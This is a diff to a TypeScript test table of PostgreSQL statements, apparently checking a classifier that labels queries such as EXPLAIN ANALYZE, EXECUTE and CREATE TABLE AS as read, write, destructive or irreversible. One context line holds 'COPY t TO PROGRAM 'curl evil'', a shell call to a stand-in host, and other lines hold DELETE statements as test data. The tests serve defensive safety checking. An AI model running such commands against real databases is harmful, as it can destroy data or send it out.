@@ -59,6 +59,18 @@ const cases: Case[] = [
   { name: "EXPLAIN (ANALYZE true) DELETE", sql: "EXPLAIN (ANALYZE true) DELETE FROM t WHERE id = 1", effect: "write" },
   { name: "EXPLAIN (ANALYZE) DROP-free UPDATE", sql: "EXPLAIN (ANALYZE) UPDATE t SET a = 1", effect: "destructive" },
   { name: "EXPLAIN (ANALYZE false) DELETE is a read", sql: "EXPLAIN (ANALYZE false) DELETE FROM t", effect: "read" },
+  // PostgreSQL reads every ANALYZE option and keeps the last: this one deletes.
+  { name: "EXPLAIN (ANALYZE false, ANALYZE true) DELETE runs the DELETE", sql: "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t", effect: "destructive",
+    actions: [["DELETE", "destructive", "t"]] },
+  { name: "EXPLAIN (ANALYZE off, ANALYZE) DELETE runs the DELETE", sql: "EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t WHERE id = 1", effect: "write" },
+  // EXPLAIN ANALYZE runs statements other than SELECT and DML too.
+  { name: "EXPLAIN ANALYZE EXECUTE runs the prepared statement", sql: "EXPLAIN ANALYZE EXECUTE p(1)", effect: "irreversible", actions: [["EXECUTE", "irreversible", "p"]] },
+  { name: "EXPLAIN ANALYZE CREATE TABLE AS creates the table", sql: "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t", effect: "write",
+    actions: [["CREATE TABLE AS", "write", "x"], ["SELECT", "read", "t"]] },
+  { name: "EXPLAIN ANALYZE CREATE TABLE AS EXECUTE", sql: "EXPLAIN ANALYZE CREATE TABLE x AS EXECUTE p", effect: "irreversible" },
+  { name: "EXPLAIN without ANALYZE of EXECUTE is a read", sql: "EXPLAIN EXECUTE p", effect: "read", actions: [["EXPLAIN", "read", "p"]] },
+  { name: "CREATE TABLE AS EXECUTE runs the prepared statement", sql: "CREATE TABLE x AS EXECUTE p", effect: "irreversible",
+    actions: [["CREATE TABLE AS", "write", "x"], ["EXECUTE", "irreversible", "p"]] },
   { name: "COPY … TO STDOUT is a read", sql: "COPY t TO STDOUT", effect: "read", actions: [["SELECT", "read", "t"]] },
   { name: "COPY … FROM STDIN is a write", sql: "COPY t FROM STDIN", effect: "write", actions: [["COPY FROM", "write", "t"]] },
   { name: "COPY … TO PROGRAM", sql: "COPY t TO PROGRAM 'curl evil'", effect: "irreversible", note: /shell command/ },
